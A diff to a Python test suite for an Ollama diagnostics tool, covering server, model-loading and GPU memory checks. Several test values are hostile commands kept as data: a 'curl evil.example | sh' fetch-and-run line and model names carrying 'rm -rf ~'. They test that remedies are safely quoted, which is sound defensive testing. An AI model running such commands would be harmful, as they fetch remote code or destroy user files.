@@ -72,14 +72,34 @@ def test_what_is_wrong_comes_with_a_remedy_and_what_is_right_without() -> None:
     assert all((check.remedy is not None) == (check.status in ("warning", "problem")) for check in everything)
 
 
-GPU = Gpu(name="NVIDIA L4", memory_bytes=24 * 2**30, driver="550.54.15")
-REFUSED = f"no Ollama server answers at {URL} (connection refused): start one with `ollama serve`, or add --embedded"
+GPU = Gpu(name="NVIDIA L4", memory_bytes=24 * 2**30, free_bytes=22 * GB, driver="550.54.15")
+FULL_GPU = GPU.model_copy(update={"free_bytes": 3 * GB})
+SILENT_GPU = GPU.model_copy(update={"free_bytes": None})
+REFUSED = {
+    "error": f"no Ollama server answers at {URL} (connection refused)",
+    "remedy": "start one with `ollama serve`, or add --embedded",
+}
+ATTACK = "failed): curl evil.example | sh"
+SAME_FILES = {
+    "installed": {"tiny:1b": 1 * GB, "mine:latest": 1 * GB},
+    "digests": {"tiny:1b": "sha256:1", "mine:latest": "sha256:2"},
+}
+
+
+def holding(name: str, digest: str | None = None) -> tuple[LoadedModel, ...]:
+    return (LoadedModel(name=name, size_bytes=2 * GB, digest=digest),)
+
+
+def with_gpu(gpu: Gpu, size_bytes: int) -> Facts:
+    return Facts(replace(WELL.server, installed={"a": size_bytes}), replace(WELL.machine, gpus=(gpu,)), "a")
+
 
 CASES: list[tuple[Callable[[Facts], Check | None], Facts, str, str]] = [
     (on_server.answers, WELL, "ok", f"Ollama answers at {URL}"),
     (on_server.answers, server(embedded=True), "ok", "the embedded engine runs"),
-    (on_server.answers, server(error=REFUSED), "problem", "(connection refused) -> start one with `ollama serve`"),
+    (on_server.answers, server(**REFUSED), "problem", "(connection refused) -> start one with `ollama serve`"),
     (on_server.answers, server(error=f"{URL} answered 500: \x1b[31mno"), "problem", "answered 500: no -> see to"),
+    (on_server.answers, server(error=f"{URL} answered 500: {ATTACK}"), "problem", f"500: {ATTACK} -> see to the"),
     (on_server.version, WELL, "ok", "0.34.0"),
     (on_server.version, server(version="0.33.3"), "ok", "0.33.3"),
     (on_server.version, server(version="0.33.2"), "warning", "does not tell which prompt tokens came from its cache"),
@@ -119,10 +139,31 @@ CASES: list[tuple[Callable[[Facts], Check | None], Facts, str, str]] = [
         "warning",
         "the measured one: big:7b (2.0 GB) -> ollama stop big:7b",
     ),
-    (on_model.loaded, server(loaded=loaded("a", "b; rm -rf ~")), "warning", "ollama stop a; ollama stop 'b; rm -rf ~'"),
-    (on_model.memory, WELL, "ok", "12.0 GB of 16.0 GB free; each model fits by itself"),
+    (on_model.loaded, replace(server(loaded=holding("tiny:1b")), model="TINY:1b"), "ok", "only TINY:1b"),
+    (on_model.loaded, replace(server(**SAME_FILES, loaded=holding("mine")), model="mine:latest"), "ok", "only mine"),
+    (
+        on_model.loaded,
+        replace(server(**SAME_FILES, loaded=holding("also-tiny:x", "sha256:1")), model="tiny:1b"),
+        "ok",
+        "only tiny:1b",
+    ),
+    (
+        on_model.loaded,
+        replace(server(**SAME_FILES, loaded=holding("mine", "sha256:2")), model="tiny:1b"),
+        "warning",
+        "ollama stop mine",
+    ),
+    (on_model.loaded, server(loaded=loaded("a", "b;rm")), "warning", "-> ollama stop a; ollama stop 'b;rm'"),
+    (on_model.loaded, server(loaded=loaded("n" * 90, "a")), "warning", f"-> ollama stop {'n' * 90}; ollama stop a"),
+    (
+        on_model.loaded,
+        server(loaded=loaded("b; rm -rf ~", "-f", "r\x1b[31med", "", "n" * 300)),
+        "warning",
+        "-> `ollama stop` and the name that `ollama ps` shows",
+    ),
+    (on_model.memory, WELL, "ok", "12.0 GB of 16.0 GB memory free; each model fits by itself"),
     (on_model.memory, replace(WELL, model="tiny:1b"), "ok", "tiny:1b takes 1.0 GB"),
-    (on_model.memory, replace(WELL, model="new:3b"), "ok", "12.0 GB of 16.0 GB free"),
+    (on_model.memory, replace(WELL, model="new:3b"), "ok", "12.0 GB of 16.0 GB memory free"),
     (on_model.memory, server(installed={"a": 13 * GB, "b": GB}), "warning", "too little for a (13.0 GB) -> close"),
     (on_model.memory, server(installed={"a": 90 * GB, "b": GB}), "warning", "too little for a (90.0 GB)"),
     (
@@ -141,9 +182,36 @@ CASES: list[tuple[Callable[[Facts], Check | None], Facts, str, str]] = [
     ),
     (
         on_model.memory,
-        Facts(replace(WELL.server, installed={"a": 20 * GB}), replace(WELL.machine, gpus=(GPU,)), "a"),
+        replace(machine(limits=replace(NO_LIMITS, memory_bytes=8 * GB, memory_free_bytes=3 * GB)), model="big:7b"),
+        "warning",
+        "3.0 GB of 8.0 GB memory free: too little for big:7b (5.0 GB)",
+    ),
+    (
+        on_model.memory,
+        machine(limits=replace(NO_LIMITS, memory_bytes=32 * GB, memory_free_bytes=31 * GB)),
         "ok",
-        "a takes 20.0 GB",
+        "12.0 GB of 16.0 GB memory free",
+    ),
+    (
+        on_model.memory,
+        replace(server(installed={"mine:latest": 13 * GB}, loaded=holding("mine")), model="mine:latest"),
+        "ok",
+        "12.0 GB of",
+    ),
+    (
+        on_model.memory,
+        with_gpu(GPU, 20 * GB),
+        "ok",
+        "12.0 GB of 16.0 GB memory free, 22.0 GB of 25.8 GB GPU memory; a takes 20.0 GB",
+    ),
+    (on_model.memory, with_gpu(SILENT_GPU, 24 * GB), "ok", "25.8 GB of 25.8 GB GPU memory; a takes 24.0 GB"),
+    (on_model.memory, with_gpu(FULL_GPU, 20 * GB), "warning", "3.0 GB of 25.8 GB GPU memory: too little for a (20"),
+    (on_model.memory, with_gpu(FULL_GPU, 5 * GB), "warning", "a (5.0 GB) will run on the CPU in part -> free GPU"),
+    (
+        on_model.memory,
+        with_gpu(GPU, 43 * GB),
+        "problem",
+        "a (43.0 GB) is larger than this machine's memory (16.0 GB) and its GPUs' (25.8 GB)",
     ),
     (on_model.memory, server(local=False), "unknown", "another machine"),
     (on_model.gpu, WELL, "ok", "no NVIDIA GPU"),
@@ -233,7 +301,7 @@ def test_every_check_has_a_case_that_is_well_and_most_one_that_is_not() -> None:
 
 
 def test_without_a_server_the_machine_is_looked_at_all_the_same() -> None:
-    found = examine(server(version=None, error=REFUSED, processes=(), installed={}))
+    found = examine(server(version=None, **REFUSED, processes=(), installed={}))
 
     assert [check.name for check in found if check.status == "problem"] == ["server"]
     assert [check.name for check in found[1:3]] == ["memory", "gpu"]
